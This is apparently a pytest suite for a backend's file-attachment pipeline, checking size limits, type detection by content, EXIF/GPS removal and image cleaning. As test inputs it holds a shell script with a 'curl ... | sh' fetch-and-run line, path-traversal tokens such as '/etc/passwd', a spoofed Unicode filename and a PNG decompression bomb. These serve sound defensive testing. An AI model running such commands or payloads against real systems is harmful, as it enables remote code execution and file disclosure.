"""The attachment pipeline with real files made here: limits, type by content, images cleaned.

Every refusal is also checked to leave nothing on disk: not under the attachments folder, not in
the temporary folder the spool rolls over into.
"""

from __future__ import annotations

import asyncio
import io
import struct
import tempfile
import zlib
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageCms

from backend.matters.attachments import (
    MAX_ATTACHMENT_BYTES,
    MAX_LONG_SIDE,
    AttachmentNotFound,
    Refusal,
    Refused,
    StoredAttachment,
    attachments_dir,
    display_name,
    is_token,
    open_attachment,
    receive_upload,
    store_attachment,
    upload_chunks,
)
from backend.settings import Settings

CHUNK = 64 * 1024
ORIENTATION, GPS_IFD, MAKE = 0x0112, 0x8825, 0x010F
RED, BLUE = (255, 0, 0), (0, 0, 255)


class Counted:
    """An async stream of chunks that counts how many were taken from it."""

    def __init__(self, data: bytes, chunk: int = CHUNK) -> None:
        self.data, self.chunk, self.consumed = data, chunk, 0

    async def __aiter__(self) -> AsyncIterator[bytes]:
        for start in range(0, len(self.data), self.chunk):
            self.consumed += 1
            yield self.data[start : start + self.chunk]
        yield b""  # Litestar's request.stream() ends with an empty chunk


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return tmp_path / "attachments"


@pytest.fixture
def spool_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where a spooled upload rolls over to disk, so a test can see that nothing stayed."""
    folder = tmp_path / "spool"
    folder.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(folder))
    return folder


def files_under(*folders: Path) -> list[Path]:
    return [path for folder in folders for path in folder.rglob("*") if path.is_file()]


async def store(data: bytes, root: Path, filename: str = "upload") -> StoredAttachment | Refused:
    return await store_attachment(Counted(data), root=root, filename=filename)


def stored_bytes(attachment: StoredAttachment, root: Path) -> bytes:
    opened = open_attachment(attachment.token, root=root)
    with opened.file:
        assert opened.media_type == attachment.media_type
        return opened.file.read()


def left_red_landscape() -> Image.Image:
    """400 × 200, red on the left half: turned upright by orientation 6, red is on top."""
    image = Image.new("RGB", (400, 200), BLUE)
    image.paste(RED, (0, 0, 200, 200))
    return image


def exif_with_gps(orientation: int) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    exif[MAKE] = "Phone maker"
    exif[GPS_IFD] = {1: "N", 2: (39.0, 54.0, 27.0), 3: "E", 4: (116.0, 23.0, 17.0)}
    return exif


def encoded(image: Image.Image, image_format: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, image_format, **options)
    return out.getvalue()


def png_declaring(width: int, height: int) -> bytes:
    """A valid-looking PNG of a few dozen bytes whose header claims width × height pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + chunk(b"IEND", b"")
    )


def minimal_pdf() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def assert_refused(result: object, reason: Refusal, *folders: Path) -> None:
    assert result == Refused(reason)
    assert files_under(*folders) == []


async def test_an_upload_over_10_mib_is_refused_at_the_first_chunk_past_the_limit(
    root: Path, spool_dir: Path
) -> None:
    stream = Counted(b"\xff\xd8\xff" + b"\0" * (2 * MAX_ATTACHMENT_BYTES))
    result = await store_attachment(stream, root=root, filename="big.jpg")
    assert_refused(result, Refusal.TOO_LARGE, root, spool_dir)
    assert stream.consumed == MAX_ATTACHMENT_BYTES // CHUNK + 1  # 161 of 321 chunks


async def test_an_upload_of_exactly_10_mib_is_received(spool_dir: Path) -> None:
    spool = await receive_upload(Counted(b"x" * MAX_ATTACHMENT_BYTES))
    assert not isinstance(spool, Refused)
    with spool:
        assert len(spool.read()) == MAX_ATTACHMENT_BYTES


async def test_a_declared_content_length_over_the_limit_is_refused_before_reading(
    root: Path,
) -> None:
    stream = Counted(minimal_pdf())
    result = await store_attachment(
        stream, root=root, filename="a.pdf", declared_length=MAX_ATTACHMENT_BYTES + 1
    )
    assert_refused(result, Refusal.TOO_LARGE, root)
    assert stream.consumed == 0


async def test_an_empty_upload_is_refused(root: Path, spool_dir: Path) -> None:
    assert_refused(await store(b"", root, "empty.pdf"), Refusal.EMPTY, root, spool_dir)


async def test_a_shell_script_named_jpg_is_refused_as_unsupported(
    root: Path, spool_dir: Path
) -> None:
    script = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
    assert_refused(
        await store(script, root, "photo.jpg"), Refusal.UNSUPPORTED_TYPE, root, spool_dir
    )


async def test_a_pdf_named_png_is_accepted_as_a_pdf_and_stored_as_given(root: Path) -> None:
    pdf = minimal_pdf()
    result = await store(pdf, root, "scan.png")
    assert isinstance(result, StoredAttachment)
    assert (result.media_type, result.size, result.display_name) == (
        "application/pdf",
        len(pdf),
        "scan.png",
    )
    assert stored_bytes(result, root) == pdf
    assert is_token(result.token) and result.token not in {"scan", "png"}


async def test_a_pdf_without_its_end_of_file_marker_is_refused_as_corrupt(root: Path) -> None:
    truncated = minimal_pdf()[:-7]
    assert_refused(await store(truncated, root, "cut.pdf"), Refusal.CORRUPT, root)


async def test_a_heic_photo_is_stored_as_an_upright_jpeg_without_exif_or_gps(root: Path) -> None:
    heic = encoded(left_red_landscape(), "HEIF", exif=exif_with_gps(6).tobytes(), quality=90)
    with Image.open(io.BytesIO(heic)) as original:  # the GPS really is in what was uploaded
        assert original.format == "HEIF"
        assert original.getexif().get_ifd(GPS_IFD)[1] == "N"
    result = await store(heic, root, "IMG_0001.HEIC")
    assert isinstance(result, StoredAttachment)
    assert result.media_type == "image/jpeg"
    assert result.display_name == "IMG_0001.HEIC"
    data = stored_bytes(result, root)
    assert b"Exif" not in data and b"Phone maker" not in data
    with Image.open(io.BytesIO(data)) as stored:
        assert stored.format == "JPEG"
        assert stored.size == (200, 400)
        assert not stored.getexif()
        assert {"exif", "xmp", "icc_profile", "comment"}.isdisjoint(stored.info)
        assert_near(stored.getpixel((100, 50)), RED)
        assert_near(stored.getpixel((100, 350)), BLUE)


async def test_a_jpeg_is_turned_by_its_exif_orientation_and_loses_its_metadata(
    root: Path,
) -> None:
    jpeg = encoded(
        left_red_landscape(), "JPEG", exif=exif_with_gps(6), comment=b"at home", quality=95
    )
    result = await store(jpeg, root, "photo.jpg")
    assert isinstance(result, StoredAttachment)
    data = stored_bytes(result, root)
    assert b"Exif" not in data and b"at home" not in data
    with Image.open(io.BytesIO(data)) as stored:
        assert stored.size == (200, 400)
        assert_near(stored.getpixel((100, 50)), RED)


async def test_a_large_photo_is_downscaled_to_the_long_side(root: Path) -> None:
    jpeg = encoded(Image.new("RGB", (6000, 3000), RED), "JPEG", quality=80)
    result = await store(jpeg, root, "wide.jpg")
    assert isinstance(result, StoredAttachment)
    with Image.open(io.BytesIO(stored_bytes(result, root))) as stored:
        assert stored.size == (MAX_LONG_SIDE, MAX_LONG_SIDE // 2)


async def test_a_png_keeps_png_only_when_it_has_transparency(root: Path) -> None:
    clear = Image.new("RGBA", (50, 50), (0, 0, 0, 0))
    opaque = Image.new("RGBA", (50, 50), (0, 128, 0, 255))
    kept = await store(encoded(clear, "PNG"), root, "logo.png")
    made_jpeg = await store(encoded(opaque, "PNG"), root, "screen.png")
    assert isinstance(kept, StoredAttachment) and isinstance(made_jpeg, StoredAttachment)
    assert (kept.media_type, made_jpeg.media_type) == ("image/png", "image/jpeg")


@pytest.mark.parametrize(
    ("width", "height"), [(100_000, 100_000), (9_000, 9_000)], ids=["past-pillow", "past-ours"]
)
async def test_a_png_declaring_huge_dimensions_is_refused_as_too_many_pixels(
    root: Path, spool_dir: Path, width: int, height: int
) -> None:
    bomb = png_declaring(width, height)
    assert len(bomb) < 100
    assert_refused(await store(bomb, root, "bomb.png"), Refusal.TOO_MANY_PIXELS, root, spool_dir)


async def test_a_truncated_jpeg_is_refused_as_corrupt(root: Path, spool_dir: Path) -> None:
    jpeg = encoded(Image.effect_noise((800, 600), 64).convert("RGB"), "JPEG", quality=90)
    truncated = jpeg[: len(jpeg) // 2]
    assert_refused(await store(truncated, root, "cut.jpg"), Refusal.CORRUPT, root, spool_dir)


async def test_a_refused_upload_past_the_in_memory_spool_leaves_no_file(
    root: Path, spool_dir: Path
) -> None:
    garbage_png = b"\x89PNG\r\n\x1a\n" + b"\x07" * (3 * 1024 * 1024)
    assert_refused(await store(garbage_png, root, "x.png"), Refusal.CORRUPT, root, spool_dir)


async def test_an_upload_file_is_read_in_chunks() -> None:
    class Upload:
        def __init__(self) -> None:
            self.body = io.BytesIO(minimal_pdf())

        async def read(self, size: int = -1) -> bytes:
            return self.body.read(size)

    assert b"".join([chunk async for chunk in upload_chunks(Upload())]) == minimal_pdf()


@pytest.mark.parametrize(
    "token",
    [
        "../../secret_key",
        "..%2F..%2Fiph.sqlite3",
        "/etc/passwd",
        "tmp",
        "A" * 42,
        "A" * 44,
        "A" * 41 + "/.",
        "A" * 42 + "\0",
        "",
    ],
)
def test_a_token_of_the_wrong_shape_is_refused_before_the_disk_is_touched(
    tmp_path: Path, token: str
) -> None:
    root = tmp_path / "not-there"  # would raise FileNotFoundError differently if it were looked at
    with pytest.raises(AttachmentNotFound):
        open_attachment(token, root=root)
    assert not root.exists()


def test_an_unknown_well_formed_token_is_not_found(root: Path) -> None:
    with pytest.raises(AttachmentNotFound):
        open_attachment("A" * 43, root=root)


@pytest.mark.parametrize(
    ("given_name", "shown"),
    [
        ("C:\\Users\\me\\Desktop\\证书.pdf", "证书.pdf"),
        ("../../etc/passwd", "passwd"),
        ("in\u202evoice\u0000.pdf\n", "invoice.pdf"),
        ("  .. ", "attachment"),
        (None, "attachment"),
        ("名\u3000字.jpg", "名 字.jpg"),
    ],
)
def test_the_display_name_is_the_cleaned_last_segment(given_name: str | None, shown: str) -> None:
    assert display_name(given_name) == shown


def test_a_long_display_name_keeps_its_extension() -> None:
    shown = display_name("x" * 500 + ".pdf")
    assert len(shown) <= 120 and shown.endswith("….pdf")


def test_attachments_live_under_the_var_folder() -> None:
    settings = Settings(var_dir="/srv/iph/var")
    assert attachments_dir(settings) == Path("/srv/iph/var/attachments")


MAGIC = [b"", b"%PDF-1.7\n", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", b"\0\0\0\x18ftypheic"]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    head=st.sampled_from(MAGIC),
    body=st.binary(max_size=4096),
    tail=st.sampled_from([b"", b"%%EOF"]),
)
def test_arbitrary_bytes_give_a_refusal_or_a_stored_file_and_never_raise(
    head: bytes, body: bytes, tail: bytes
) -> None:
    with tempfile.TemporaryDirectory() as folder:
        root = Path(folder)
        result = asyncio.run(store(head + body + tail, root))
        if isinstance(result, Refused):
            assert files_under(root) == []
        else:
            assert isinstance(result, StoredAttachment)
            assert len(stored_bytes(result, root)) == result.size
            assert len(files_under(root)) == 1


def assert_near(pixel: tuple[int, ...], colour: tuple[int, int, int]) -> None:
    assert all(abs(got - want) <= 12 for got, want in zip(pixel, colour, strict=True)), pixel


async def test_a_colour_profile_is_converted_to_srgb_and_dropped(root: Path) -> None:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    for image in (left_red_landscape(), Image.new("CMYK", (64, 64), (0, 255, 255, 0))):
        result = await store(encoded(image, "JPEG", icc_profile=profile), root, "p.jpg")
        assert isinstance(result, StoredAttachment)
        with Image.open(io.BytesIO(stored_bytes(result, root))) as stored:
            assert stored.mode == "RGB" and "icc_profile" not in stored.info


async def test_a_16_bit_grey_png_is_scaled_to_8_bits_not_clipped(root: Path) -> None:
    grey = Image.new("I;16", (40, 20), 32768)
    result = await store(encoded(grey, "PNG"), root, "scan.png")
    assert isinstance(result, StoredAttachment)
    with Image.open(io.BytesIO(stored_bytes(result, root))) as stored:
        assert stored.mode == "L"
        assert abs(stored.getpixel((10, 10)) - 128) <= 2
